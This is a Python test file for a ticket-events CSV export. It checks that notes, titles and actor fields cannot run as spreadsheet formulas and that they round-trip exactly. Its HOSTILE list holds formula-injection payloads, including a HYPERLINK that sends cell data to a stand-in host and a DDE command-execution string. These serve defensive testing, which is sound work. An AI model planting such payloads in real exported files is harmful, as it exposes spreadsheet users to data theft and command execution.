"""Free text in the events CSV (notes, titles, helpdesk ids, actors) never runs as a spreadsheet formula
when an export is opened in Excel or LibreOffice, and still imports back exactly ("CSV injection")."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from sla.replay import iter_events_csv, spreadsheet_safe, spreadsheet_text, write_events_csv
from sla.timers import EventKind, TicketEvent

AT = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
    "=",
    "'",
    "Printer on fire",
]


@given(st.text())
def test_the_guard_is_undone_exactly(text: str) -> None:
    assert spreadsheet_text(spreadsheet_safe(text)) == text


@given(st.text())
def test_a_guarded_cell_never_starts_like_a_formula(text: str) -> None:
    assert not spreadsheet_safe(text).startswith(FORMULA)


def _events(texts: list[str]) -> list[TicketEvent]:
    return [
        TicketEvent(
            f"T-{i}",
            AT,
            EventKind.OPENED,
            "P2",
            None,
            "acme",
            actor=text,
            note=text,
            subject=text,
            external_id=text,
        )
        for i, text in enumerate(texts, start=1)
    ]


def test_an_export_opened_in_a_spreadsheet_has_no_formula_and_imports_back_unchanged() -> None:
    out = io.StringIO(newline="")
    write_events_csv(_events(HOSTILE), out, with_actor_note=True, with_ticket=True)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    free = [cell for row in rows[1:] for cell in row[6:]]
    assert len(free) == 4 * len(HOSTILE)
    assert [cell for cell in free if cell.startswith(FORMULA)] == []
    read = [item for _, item in iter_events_csv(out.getvalue().splitlines(keepends=True))]
    assert [(e.actor, e.note, e.subject, e.external_id) for e in read] == [(t, t, t, t) for t in HOSTILE]


def test_a_hand_written_csv_keeps_its_text() -> None:
    """A CSV a team writes itself (no guard) reads as it always did, apostrophes and all."""
    lines = [
        "ticket_id,timestamp,event,priority,status,client,actor,note\n",
        "T-1,2026-03-02T09:00:00+00:00,opened,P2,,acme,U1,'quoted' word\n",
        "T-1,2026-03-02T09:05:00+00:00,agent_message,,,,U2,- see the logs\n",
    ]
    notes = [item.note for _, item in iter_events_csv(lines)]
    assert notes == ["'quoted' word", "- see the logs"]
